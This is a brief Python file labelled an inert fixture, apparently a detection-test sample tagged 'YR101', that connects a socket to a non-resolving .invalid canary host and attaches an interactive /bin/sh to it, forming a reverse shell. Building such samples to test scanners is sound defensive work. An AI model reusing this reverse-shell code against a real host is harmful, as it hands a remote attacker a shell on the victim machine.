# Inert fixture: the canary host never resolves (.invalid).
import socket, subprocess

c = socket.socket()
c.connect(("canary.modelgate.invalid", 9001))
subprocess.Popen(["/bin/sh", "-i"], stdin=c.fileno(), stdout=c.fileno(), stderr=c.fileno())  # expect: YR101
